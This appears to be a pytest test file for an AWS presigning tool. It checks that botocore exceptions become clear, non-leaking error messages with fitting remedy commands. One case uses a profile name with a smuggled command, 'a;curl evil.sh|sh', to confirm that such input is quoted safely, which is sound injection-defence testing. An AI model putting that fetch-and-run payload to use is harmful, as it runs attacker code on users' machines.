"""What botocore raises, made as botocore makes it; what AWS answers is in `test_refusals`."""

from __future__ import annotations

import inspect
import re

import pytest
from botocore import exceptions as foreign
from support.clock import FakeClock

from nb_presign import errors
from nb_presign.aws.calls.call import Call
from nb_presign.aws.errors.translate import translate
from nb_presign.aws.place import Place

CALL = Call("sagemaker", "ListNotebookInstances", Place("work", "us-west-2"))
URL = "https://api.sagemaker.us-west-2.amazonaws.com/"


def told(error, call=CALL, **options):
    return translate(error, call, FakeClock(), **options)


@pytest.mark.parametrize(
    ("error", "cls", "says"),
    [
        (foreign.NoCredentialsError(), errors.NoCredentialsError, "aws sso login --profile work"),
        (
            foreign.PartialCredentialsError(provider="env", cred_var="AWS_SECRET_ACCESS_KEY"),
            errors.CredentialsRefusedError,
            "AWS_SECRET_ACCESS_KEY is missing",
        ),
        (
            foreign.ProfileNotFound(profile="wrok"),
            errors.UnknownProfileError,
            "'wrok'.*aws configure list-profiles",
        ),
        (
            foreign.ProfileNotFound(profile="a;curl evil.sh|sh"),
            errors.UnknownProfileError,
            r"aws configure --profile 'a;curl evil.sh\|sh'",
        ),
        (foreign.NoRegionError(), errors.NoRegionError, r"\?region=us-west-2.*--profile work"),
        (
            foreign.InvalidRegionError(region_name="us west"),
            errors.NoRegionError,
            "'us west'",
        ),
        (
            foreign.SSOTokenLoadError(error_msg="no token"),
            errors.CredentialsExpiredError,
            "aws sso login --profile work",
        ),
        (
            foreign.UnauthorizedSSOTokenError(),
            errors.CredentialsExpiredError,
            "aws sso login --profile work",
        ),
        (
            foreign.TokenRetrievalError(provider="sso", error_msg="has expired"),
            errors.CredentialsExpiredError,
            "aws sso login --profile work",
        ),
        (
            foreign.LoginRefreshRequired(),
            errors.CredentialsExpiredError,
            "aws login --profile work",
        ),
        (
            foreign.CredentialRetrievalError(provider="custom-process", error_msg="canary"),
            errors.CredentialsError,
            "custom-process.*get-caller-identity --profile work",
        ),
        (
            foreign.RefreshWithMFAUnsupportedError(),
            errors.CredentialsExpiredError,
            "second factor",
        ),
        (
            RuntimeError("Credentials were refreshed, but the refreshed ones are still expired."),
            errors.CredentialsExpiredError,
            "have expired",
        ),
        (
            foreign.ConfigParseError(path="/home/alice/.aws/config", error="canary"),
            errors.CredentialsRefusedError,
            "aws configure list",
        ),
        (
            foreign.ConnectTimeoutError(endpoint_url=URL),
            errors.UpstreamTimeoutError,
            r"api\.sagemaker\.us-west-2\.amazonaws\.com cannot be connected",
        ),
        (
            foreign.ReadTimeoutError(endpoint_url=URL),
            errors.UpstreamTimeoutError,
            "does not answer",
        ),
        (
            foreign.EndpointConnectionError(
                endpoint_url=URL, error="NameResolutionError: Failed to resolve 'api…'"
            ),
            errors.UnreachableError,
            "cannot be resolved.*spelling of the region",
        ),
        (
            foreign.EndpointConnectionError(endpoint_url=URL, error="Connection refused"),
            errors.UnreachableError,
            "cannot be reached",
        ),
        (
            foreign.SSLError(endpoint_url=URL, error="CERTIFICATE_VERIFY_FAILED"),
            errors.UnreachableError,
            "AWS_CA_BUNDLE",
        ),
        (
            foreign.ProxyConnectionError(proxy_url="http://ada:canary@proxy:3128"),
            errors.UnreachableError,
            "HTTPS_PROXY",
        ),
        (
            foreign.ConnectionClosedError(endpoint_url=URL),
            errors.UnreachableError,
            "closed the connection",
        ),
        (
            foreign.ParamValidationError(report="canary"),
            errors.InputError,
            "sagemaker:ListNotebookInstances",
        ),
        (
            foreign.UnknownServiceError(service_name="sagemaker", known_service_names="none"),
            errors.UpstreamError,
            "pip install -U boto3",
        ),
        (
            UnicodeDecodeError("utf-8", b"canary", 0, 1, "invalid"),
            errors.BadAnswerError,
            "not an answer of AWS's",
        ),
        (ArithmeticError("canary"), errors.UpstreamError, "unexpected way: ArithmeticError"),
    ],
    ids=lambda value: type(value).__name__ if isinstance(value, Exception) else None,
)
def test_what_happened_and_what_mends_it(error, cls, says):
    found = told(error)
    assert type(found) is cls
    assert re.search(says, str(found))
    assert "canary" not in str(found) + repr(found.fields)
    assert found.fields.items() >= CALL.fields().items()


def every_class():
    return [
        cls
        for _, cls in inspect.getmembers(foreign, inspect.isclass)
        if issubclass(cls, foreign.BotoCoreError)
    ]


@pytest.mark.parametrize("cls", every_class(), ids=lambda cls: cls.__name__)
def test_every_class_of_botocores_is_told_without_its_text(cls):
    canaries = dict.fromkeys(re.findall(r"\{(\w+)\}", cls.fmt), "canary")
    if cls is foreign.WaiterError:
        canaries["last_response"] = {"canary": "canary"}
    # These name what the user wrote, not what came back.
    expected = {"profile", "region_name", "cred_var", "provider", "endpoint_url", "service_name"}
    found = told(cls(**canaries))
    assert isinstance(found, errors.PresignError)
    if not canaries.keys() & expected:
        assert "canary" not in str(found) + repr(found.fields)


@pytest.mark.parametrize(
    ("method", "says"),
    [
        ("env", "AWS_SESSION_TOKEN"),
        ("sso", "aws sso login --profile work"),
        ("shared-credentials-file", "aws configure --profile work"),
        ("iam-role", "by itself"),
        ("assume-role", "aws sso login --profile work"),
    ],
)
def test_the_mending_fits_where_the_credentials_came_from(method, says):
    assert says in told(RuntimeError("expired"), method=method).hint


def test_without_a_profile_commands_name_none():
    found = told(foreign.NoCredentialsError(), Call("sagemaker", "ListDomains", Place()))
    assert "--profile" not in str(found)
    assert "the default profile" in str(found)
